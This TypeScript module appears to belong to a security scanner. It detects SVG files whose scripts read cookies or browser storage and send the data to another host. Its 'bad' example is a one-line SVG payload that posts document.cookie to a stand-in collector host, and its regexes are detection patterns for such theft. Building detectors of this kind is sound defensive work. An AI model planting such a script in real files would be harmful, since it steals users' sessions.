import { type Detector, lineFinder, type Place, type ScannedFile } from '../../detector.ts';

export const drawingSteals: Detector = {
  id: 'drawing-steals',
  severity: 'critical',
  consequence: 'quarantine',
  summary: 'A drawing carries a program that reads cookies or storage and sends them away.',
  explanation:
    'A drawing that is opened in a browser runs its scripts with the rights of the page that it stands on. One that reads the cookies, ' +
    'the storage or what is typed there, and also names another host to send to, is made to steal a session. Scripts that only ' +
    'move shapes, or read what they keep themselves, are left out. Ship a drawing without a script.',
  examples: {
    bad: {
      path: 'logo.svg',
      text: '<svg><script>fetch("https://collector.example/in", { body: document.cookie })</script></svg>\n',
    },
    good: { path: 'logo.svg', text: '<svg><script>rect.setAttribute("x", localStorage.getItem("x"))</script></svg>\n' },
  },
  inspect: theftsIn,
};

function* theftsIn({ path, text, isText }: ScannedFile): Generator<Place> {
  if (!isText || !/\.svgz?$/i.test(path) || !/<script\b|\son\w{3,20}\s?=|javascript:/i.test(text)) return;
  const read = /document\.cookie|\b(?:local|session)Storage\b|\bindexedDB\b/.exec(text);
  const isSent =
    /(?:\bfetch\s?\(|\.open\(\s?["'`]\w{3,5}["'`]\s?,|sendBeacon\s?\(|new WebSocket\s?\(|\.src\s?=|location(?:\.href)?\s?=)\s{0,5}["'`](?:https?:|wss?:)?\/\//i.test(
      text,
    );
  if (read && isSent)
    yield { line: lineFinder(text)(read.index), message: 'A script in the drawing sends a session away.' };
}
